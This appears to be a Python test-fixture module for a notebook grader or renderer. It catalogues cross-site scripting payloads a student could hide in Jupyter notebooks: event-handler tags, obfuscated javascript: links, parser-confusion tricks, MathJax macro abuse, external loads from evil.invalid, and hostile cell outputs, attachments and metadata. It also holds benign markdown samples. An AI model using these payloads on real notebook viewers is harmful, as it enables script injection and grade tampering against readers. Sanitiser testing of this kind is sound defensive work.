"""What a student can put into a notebook to have it run, load or mislead on the page of whoever reads it."""

from __future__ import annotations

import base64
from typing import Any

RAN = "top.document.documentElement.dataset.ran='ran'"
"""The script that each of them tries to run."""
_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RAN}"><script>{RAN}</script></svg>'
SVG = base64.b64encode(_SVG.encode()).decode()
PNG = base64.b64encode(
    bytes.fromhex(
        "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c63f8cfc0f01f00050001ff"
        "ab1c9b0a0000000049454e44ae426082"
    )
).decode()
"""One pixel."""

MARKDOWN = {
    "events": [
        f'<img src=x onerror="{RAN}">',
        f"<IMG/SRC=x/OnErRoR={RAN}>",
        f'<svg onload="{RAN}"></svg>',
        f'<details open ontoggle="{RAN}"><summary>a</summary></details>',
        f'<audio src onerror="{RAN}"></audio><video><source onerror="{RAN}"></video>',
        f'<b onmouseover="{RAN}" style="position:fixed;inset:0">a</b>',
        f'<input autofocus onfocus="{RAN}"><select autofocus onfocus="{RAN}"></select>',
        f'text <marquee onstart="{RAN}">a</marquee> text',
        f'* item\n\n  <img src=x onerror="{RAN}">\n\n> <img src=x onerror="{RAN}">',
        f'|a|b|\n|-|-|\n|<img src=x onerror="{RAN}">|c|',
        f'# <img src=x onerror="{RAN}">',
    ],
    "elements": [
        f"<script>{RAN}</script>",
        f"<script\n>{RAN}\n\n</script\n>",
        f'<iframe srcdoc="<script>{RAN}</script>"></iframe>',
        f'<iframe src="javascript:{RAN}"></iframe>',
        f'<object data="data:text/html,<script>{RAN}</script>"></object><embed src="javascript:{RAN}">',
        '<meta http-equiv="refresh" content="0;url=http://evil.invalid/">',
        '<base href="http://evil.invalid/"><link rel="stylesheet" href="http://evil.invalid/a.css">',
        f'<form action="javascript:{RAN}"><button formaction="javascript:{RAN}">a</button></form>',
        "<style>body { display: none } @import 'http://evil.invalid/a.css';</style>",
        '<div style="background:url(http://evil.invalid/a)">a</div>',
        '<p style="color:red;background-color:url(http://evil.invalid/a)">a</p>',
        '<div id="written-question" class="score" name="grades">a</div>',
        "<textarea>a",
        "<plaintext>a",
        "<!-- a",
    ],
    "parsers": [
        f'<noscript><p title="</noscript><img src=x onerror={RAN}>">',
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RAN}&gt;">',
        f'<svg></p><style><a id="</style><img src=1 onerror={RAN}>">',
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RAN}>",
        f'<a title="x&quot; onmouseover=&quot;{RAN}" href="http://a.invalid/ \' onclick={RAN} \'">a</a>',
        f'<img alt="a />" title=\'"onerror={RAN}//\' src="x.png" / onerror={RAN}>',
        f"<![CDATA[<img src=x onerror={RAN}>]]><?xml <img src=x onerror={RAN}>?>",
        f"</div></div></div><img src=x onerror={RAN}><!--><img src=x onerror={RAN}>-->",
    ],
    "links": [
        f"[a](javascript:{RAN})",
        f"[a](JaVaScRiPt&colon;{RAN})",
        f"[a](&#x6A;avascript&#58;{RAN})",
        f"[a](files/javascript:{RAN})",
        f"[a](/files/javascript:{RAN})",
        f"<javascript:{RAN}>",
        f"[a][b]\n\n[b]: javascript:{RAN}",
        f"[a](<  javascript:{RAN}>)",
        f"[a](\x01javascript:{RAN})",
        f"[a](data:text/html,<script>{RAN}</script>)",
        "[a](page.html) [b](/hub/logout) [c](//evil.invalid/a) [d](../../x.svg)",
        f'<a href="javascript:{RAN}">a</a> <a href="&#1;javascript:{RAN}">a</a> <a href="java\tscript:{RAN}">a</a>',
        f'<svg><a xlink:href="javascript:{RAN}"><text>a</text></a></svg>',
        f'<map><area href="javascript:{RAN}" shape=default></map>',
    ],
    "images": [
        "![a](http://evil.invalid/a.png)",
        f"![a](javascript:{RAN})",
        f"![a](data:image/svg+xml;base64,{SVG})",
        "![a](drawing.svg) ![b](/hub/logout) ![c](../other/a.png) ![d](/formgrader/api/assignments)",
        f'![a"onerror="{RAN}](x.png)',
        f"![a](x.png 'b\"onerror=\"{RAN}')",
        f'![a](x.png"onerror="{RAN})',
        "![a](attachment:nothing.png)",
        '<img src="http://evil.invalid/a.png" srcset="http://evil.invalid/b.png 2x">',
    ],
    "code": [
        f"```mermaid\ngraph <img src=x onerror={RAN}>\n```",
        f"```mermaidx\n</pre><img src=x onerror={RAN}>\n```",
        f'```"><img/src=x/onerror={RAN}>\na\n```',
        f"```python\n<img src=x onerror={RAN}>\n```",
        f"    <img src=x onerror={RAN}>\n",
        f"`<img src=x onerror={RAN}>` ``</code><img src=x onerror={RAN}>``",
        "```score comment\na\n```",
    ],
    "formulas": [
        f"$<img src=x onerror={RAN}>$",
        f"$$\n</p><script>{RAN}</script>\n$$",
        f"\\\\[ <img src=x onerror={RAN}> \\\\] \\\\( <img src=x onerror={RAN}> \\\\)",
        f"\\begin{{align}}<img src=x onerror={RAN}>\\end{{align}}",
        f"$\\text{{<img src=x onerror={RAN}>}}$",
        f"$$\n\n<img src=x onerror={RAN}>\n\n$$",
    ],
    "macros": [
        f"$\\href{{javascript:{RAN}}}{{x}}$",
        f"$$\\def\\x{{\\href}}\\x{{javascript:{RAN}}}{{x}}$$",
        f"$\\let\\x=\\href \\x{{javascript:{RAN}}}{{x}}$",
        f"$\\<wbr>href{{javascript:{RAN}}}{{x}}$ $\\<!-- -->href{{javascript:{RAN}}}{{x}}$",
        f"$\\&#104;ref{{javascript:{RAN}}}{{x}}$",
        f"&#36;\\href{{javascript:{RAN}}}{{x}}&#36;",
        f"\\\\(\\href{{javascript:{RAN}}}{{x}}\\\\)",
        f"\\begin{{align}}\\href{{javascript:{RAN}}}{{x}}\\end{{align}}",
        "$\\href{http://a.invalid}{x}$ and $c<d$ and $$\\style{color:red}{x}$$",
        "$\\style{position:fixed}{x}$ $\\class{score}{x}$ $\\cssId{written-question}{x}$",
        "$\\require{http://evil.invalid/a.js}x$ $\\bbox[position:fixed;border:1px]{x}$",
        "$\\mmlToken{mi}[href='javascript:0']{x}$ $\\includegraphics{http://evil.invalid/a.png}$",
        f"$\\htmlData{{a=b}}{{x}}$ $\\htmlStyle{{position:fixed}}{{x}}$ $\\url{{javascript:{RAN}}}$",
    ],
    "names": [
        "# written-question\n\n## gradients",
        "# <span id='gradients'>gradients</span>",
        '<h1 id="gradients" name="gradients">gradients</h1>',
    ],
}
"""By channel."""

HONEST = [
    "Because $a<b$ and $b>c$, hence $a < b$ & more.",
    "$$\\begin{aligned} x &= y \\\\ &< z \\end{aligned}$$",
    "$$\nL = \\frac{1}{N} \\sum_{i<N} (\\hat y_i - y_i)^2\n$$",
    "\\begin{align}\na &= b \\\\[4pt]\nc &= d\n\\end{align}",
    "## My answer\n\nIt *is* **so**, says `dL_dW[i]`, \"quoted\" and 'quoted'.",
    '```python\nif a<b and c>d:\n    print("x & y")\n```',
    "```\nplain <b> & code\n```",
    "| a | b |\n|:-|-:|\n| $x_1$ | `y` |",
    "1. one\n2. two\n   - three\n\n> said\n\n---\n\nend  \nof line",
    "See [the book](https://example.org/a?b=c&d=e#f 'title'), https://example.org/x and [above](#here).",
    "![a plot](plot.png) and ![mine](images/my%20plot.png)",
    f"![pasted](data:image/png;base64,{PNG})",
    "~~no~~ yes — größer als 3 < 4",
    "a & b, a &amp; b, 3 < 4 > 2, x<y",
]
"""What stays as it was written."""


def hostile_outputs() -> list[dict[str, Any]]:
    """An output of each kind, with script in it."""
    html = f'<img src=x onerror="{RAN}"><script>{RAN}</script>'
    data = {
        "text/html": html,
        "application/javascript": RAN,
        "image/svg+xml": _SVG,
        "text/markdown": html,
        "text/latex": f"$\\href{{javascript:{RAN}}}{{x}}$",
        "application/vnd.jupyter.widget-view+json": {"model_id": html, "version_major": 2},
        "application/json": {"a": html},
        "text/plain": html,
    }
    shown = [{"output_type": "display_data", "metadata": {}, "data": {kind: value}} for kind, value in data.items()]
    return [
        *shown,
        {"output_type": "stream", "name": "stdout", "text": html},
        {"output_type": "stream", "name": "stderr", "text": f"\x1b[31m{html}"},
        {"output_type": "error", "ename": html, "evalue": html, "traceback": [f"\x1b[31m{html}"]},
        {"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {"text/plain": "1e9"}},
    ]


def hostile_cells() -> list[dict[str, Any]]:
    """Cells that do harm by other things than their Markdown."""
    html = f'<img src=x onerror="{RAN}">'
    markup = {"tags": [f'"><img src=x onerror={RAN}>'], "name": html, "id": "gradients"}
    attached = "![a](attachment:a.svg) ![b](attachment:b.png) ![c](attachment:c.png) ![d](attachment:d.html)"
    attachments = {
        "a.svg": {"image/svg+xml": SVG},
        "b.png": {"image/png": f'"onerror="{RAN}'},
        "c.png": {f'image/png"onerror="{RAN}': PNG},
        "d.html": {"text/html": base64.b64encode(html.encode()).decode()},
    }
    return [
        {"cell_type": "raw", "id": "r1", "metadata": {}, "source": html},
        {"cell_type": "raw", "id": "r2", "metadata": {"raw_mimetype": "text/html"}, "source": html},
        {"cell_type": "raw", "id": "r3", "metadata": {"format": "text/html"}, "source": [html, "\n", html]},
        {"cell_type": "unknown", "id": "u1", "metadata": {}, "source": html},
        {"cell_type": "markdown", "id": f'x"><img src=x onerror={RAN}>', "metadata": markup, "source": "ids"},
        {"cell_type": "markdown", "id": "a1", "metadata": {}, "source": attached, "attachments": attachments},
        {
            "cell_type": "code",
            "id": f"y'><img src=x onerror={RAN}>",
            "metadata": {**markup, "magics_language": html, "nbgrader": {"grade_id": html, "grade": True}},
            "execution_count": html,
            "outputs": hostile_outputs(),
            "source": f"%%html\n{html}",
        },
        {
            "cell_type": "code",
            "id": "c2",
            "metadata": {"nbgrader": html},
            "execution_count": 3,
            "outputs": hostile_outputs(),
            "source": f"# {html}\n'''</pre>{html}'''",
        },
    ]


def hostile_metadata() -> dict[str, Any]:
    """Of a whole notebook."""
    html = f'</title></script><img src=x onerror="{RAN}"><script>{RAN}</script>'
    return {
        "title": html,
        "authors": [{"name": html}],
        "kernelspec": {"name": html, "display_name": html, "language": html},
        "language_info": {"name": html, "pygments_lexer": html, "mimetype": html, "codemirror_mode": html},
        "widgets": {
            "application/vnd.jupyter.widget-state+json": {
                "version_major": 2,
                "version_minor": 0,
                "state": {"a": {"model_name": "HTMLModel", "model_module": html, "state": {"value": html}}},
            }
        },
        "celltoolbar": html,
        "autograder": {"student": html},
    }
